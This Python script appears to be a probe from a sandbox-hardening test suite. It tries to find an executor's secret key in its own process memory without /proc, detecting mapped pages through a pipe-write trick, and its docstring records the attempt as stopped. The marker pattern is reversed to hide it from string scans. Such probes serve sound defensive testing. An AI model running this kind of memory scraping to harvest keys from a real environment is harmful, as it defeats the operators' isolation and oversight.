"""Searches its own memory for the executor's key without /proc.

tries: read what the zygote left on heap, stack and in libraries, finding mapped pages by writing them into a pipe
layers: executor
observed: stopped
"""

import ctypes
import gc
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
reading, writing = os.pipe()
PAGE = 4096
pattern = re.compile(re.escape(b"-rekram-kmc"[::-1]) + b"[0-9a-f]{16}")


def page(address):
    """The page, or nothing where none is mapped: the kernel copies it, so there is no fault."""
    return os.read(reading, PAGE) if libc.write(writing, address, PAGE) == PAGE else b""


def around(address, most):
    """What is mapped around an address, both ways."""
    for step in (1, -1):
        here, rest = b"", b""
        for index in range(most):
            here = page((address & -PAGE) + (index if step > 0 else -1 - index) * PAGE)
            if not here:
                break
            yield here + rest[:64] if step < 0 else rest[-64:] + here
            rest = here


known = {ctypes.c_void_p.in_dll(libc, "environ").value, ctypes.addressof(ctypes.c_int()), id(object)}
known |= {ctypes.cast(getattr(libc, name), ctypes.c_void_p).value for name in ("malloc", "printf")}
known |= {id(item) for item in gc.get_objects()}
pages = found = 0
seen = set()
for address in known:
    if address >> 18 in seen:
        continue
    seen.add(address >> 18)
    for content in around(address, 2048):
        pages += 1
        found += len(pattern.findall(content))
    if pages > 60000:
        break
result = f"escaped: {found} keys in {pages} pages" if found else f"stopped: no key in {pages} pages"
